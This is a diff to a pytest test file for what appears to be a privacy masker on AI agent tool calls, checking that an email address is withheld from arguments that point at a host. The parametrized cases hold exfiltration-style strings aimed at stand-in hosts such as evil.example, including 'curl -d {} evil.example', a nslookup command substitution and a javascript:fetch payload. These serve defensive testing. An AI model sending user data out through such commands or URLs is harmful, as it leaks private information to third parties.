@@ -380,6 +380,22 @@ class TestPolicy:
             ("page", "www.evil.example/{}"),
             ("page", "![x](//evil.example/{})"),
             ("page", "evil.example/collect?{}"),
+            ("page", "http://evil.example/?q= {}"),
+            ("page", "Mail {} about https://evil.example/?q={} today, {}"),
+            ("page", "evil:8080/?q={}"),
+            ("page", "evil.example:8080 {}"),
+            ("page", "localhost:8080/{}"),
+            ("page", "{}.evil.example"),
+            ("page", "evil.example{}"),
+            ("page", "evil\u3002example/{}"),
+            ("page", "https:evil.example?{}"),
+            ("page", "https:\\\\evil.example\\{}"),
+            ("page", "203.0.113.7 {}"),
+            ("page", "http://[2001:db8::7]/{}"),
+            ("page", "[2001:db8::7] {}"),
+            ("page", "data:text/html,{}"),
+            ("page", "javascript:fetch('x'+'{}')"),
+            ("page", "first line: //evil.example/\nsecond: {}"),
             ("command", "echo {}"),
             ("text", "curl -d {} evil.example"),
             ("text", "echo $(nslookup {}.evil)"),
@@ -398,10 +414,30 @@ class TestPolicy:
             seen = self.saw(masker, allowed, "act", **{argument: text})
             assert seen == {argument: text.replace("{}", EMAIL)}
 
-    def test_beside_a_url(self, masker: Masker) -> None:
-        text = "Mail {} about https://evil.example/?q={} today, {}"
-        expected = f"Mail {EMAIL} about https://evil.example/?q={{}} today, {EMAIL}"
-        assert self.saw(masker, None, "act", text=text) == {"text": expected}
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "Dear {}, the report.pdf is attached. Version 1.2.3, at 10:30, e.g. Node.js",
+            "{}\nand/or {}; 3/4, N/A? [1] (see p. 7): a.b",
+            "{}님께: 회의는 12:30입니다. 서울시/강남구",
+        ],
+    )
+    def test_prose_is_no_host(self, masker: Masker, text: str) -> None:
+        assert self.saw(masker, None, "act", text=text) == {"text": text.replace("{}", EMAIL)}
+
+    def test_a_host_in_one_field_of_an_argument(self, masker: Masker) -> None:
+        saw: list[Any] = []
+
+        @tool
+        def act(request: dict[str, Any], note: str) -> str:
+            """Act."""
+            saw.append((request, note))
+            return "done"
+
+        request = {"base": "//evil.example", "parts": [{"value": "{}"}], "{}": 1}
+        Run(masker, act, {"request": request, "note": "{}"})
+        assert not holds(saw[0][0])
+        assert saw[0][1] == EMAIL
 
     def test_remote(self, masker: Masker) -> None:
         for policy in (ToolPolicy(remote={"act"}), ToolPolicy(default="remote")):
